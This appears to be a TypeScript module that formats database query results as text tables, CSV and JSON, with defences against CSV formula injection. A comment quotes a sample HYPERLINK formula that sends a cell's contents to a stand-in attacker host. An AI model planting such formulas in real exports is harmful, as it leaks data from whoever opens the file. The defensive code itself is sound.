import { displayNumber, type DisplayKind } from '../lib/display-number.ts';

export { displayNumber, type DisplayKind };

export interface TableOptions {
  /**
   * Columns shown rounded for a person (see {@link displayNumber}): money to cents, other
   * numbers to at most 6 decimals. The values themselves are never changed.
   */
  kinds?: Record<string, DisplayKind>;
}

/** Prints rows as an aligned text table. */
export function formatTable(rows: Record<string, unknown>[], columns?: string[], options: TableOptions = {}): string {
  const cols = columns ?? (rows[0] ? Object.keys(rows[0]) : []);
  if (cols.length === 0) return '(no rows)\n';
  const kinds = options.kinds ?? {};
  const shown = (value: unknown, kind: DisplayKind | undefined) =>
    kind && (typeof value === 'string' || typeof value === 'number' || typeof value === 'bigint') ? displayNumber(value, kind) : cell(value);
  const cells = rows.map((r) => cols.map((c) => shown(r[c], kinds[c])));
  const widths = cols.map((c, i) => Math.max(c.length, ...cells.map((row) => row[i]!.length)));
  const numeric = cols.map((_, i) => cells.length > 0 && cells.every((row) => row[i] === '' || /^-?[\d.,]+%?$/.test(row[i]!)));
  const line = (values: string[]) => values.map((v, i) => (numeric[i] ? v.padStart(widths[i]!) : v.padEnd(widths[i]!))).join('  ').trimEnd();
  const out = [line(cols), widths.map((w) => '-'.repeat(w)).join('  '), ...cells.map(line)];
  return `${out.join('\n')}\n(${rows.length} row${rows.length === 1 ? '' : 's'})\n`;
}

export function cell(value: unknown): string {
  if (value === null || value === undefined) return '';
  if (value instanceof Date) return value.toISOString();
  if (typeof value === 'object') return JSON.stringify(value);
  return String(value);
}

export interface CsvOptions {
  /** Columns whose values are numbers (numeric, bigint and float columns, which the driver gives as text): never prefixed. */
  numbers?: ReadonlySet<string>;
  /** Text cells as they are, a formula's first character included (`verite query --raw-csv`). */
  raw?: boolean;
}

/** What a spreadsheet takes for the start of a formula (OWASP, "CSV Injection"): = + - @, a tab, a carriage return. */
const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * One CSV cell, RFC 4180 quoted. A text cell that begins as a formula would
 * (`=HYPERLINK("https://evil.example/?"&A1,"Click")`, a UTM campaign any visitor can set) gets a
 * `'` before it, which spreadsheets read as "this is text" and do not show, so opening the file
 * runs nothing. A number, typed as one by the driver or from a numeric column, is left as it
 * is: -3 stays a number.
 */
export function csvCell(value: unknown, options: { number?: boolean; raw?: boolean } = {}): string {
  let text = cell(value);
  const isNumber = options.number === true || typeof value === 'number' || typeof value === 'bigint';
  if (!options.raw && !isNumber && FORMULA_START.test(text)) text = `'${text}`;
  return /[",\n\r]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/** RFC 4180 CSV, text cells that would start a formula neutralised ({@link csvCell}). */
export function formatCsv(rows: Record<string, unknown>[], columns?: string[], options: CsvOptions = {}): string {
  const cols = columns ?? (rows[0] ? Object.keys(rows[0]) : []);
  const esc = (v: unknown, column?: string) => csvCell(v, { number: column !== undefined && options.numbers?.has(column), raw: options.raw });
  return [cols.map((c) => esc(c)).join(','), ...rows.map((r) => cols.map((c) => esc(r[c], c)).join(','))].join('\n') + '\n';
}

/** JSON's number grammar (RFC 8259): what PostgreSQL's numeric text is, NaN and Infinity aside. */
const JSON_NUMBER = /^-?(?:0|[1-9]\d*)(?:\.\d+)?(?:[eE][+-]?\d+)?$/;

/**
 * Rows as a JSON array, the `numbers` columns as JSON numbers written with every digit the
 * database sent (a numeric of 30 digits stays 30 digits in the text; a reader decides how to
 * hold it), NaN and ±Infinity, which JSON has no number for, as the strings "NaN", "Infinity",
 * "-Infinity". Every other value as JSON.stringify writes it.
 */
export function formatJson(rows: Record<string, unknown>[], numbers: ReadonlySet<string> = new Set()): string {
  const value = (column: string, v: unknown): string => {
    if (numbers.has(column) && v !== null && v !== undefined) {
      const text = String(v);
      return JSON_NUMBER.test(text) ? text : JSON.stringify(text);
    }
    return JSON.stringify(v ?? null);
  };
  return `[${rows.map((r) => `{${Object.entries(r).map(([c, v]) => `${JSON.stringify(c)}:${value(c, v)}`).join(',')}}`).join(',')}]\n`;
}
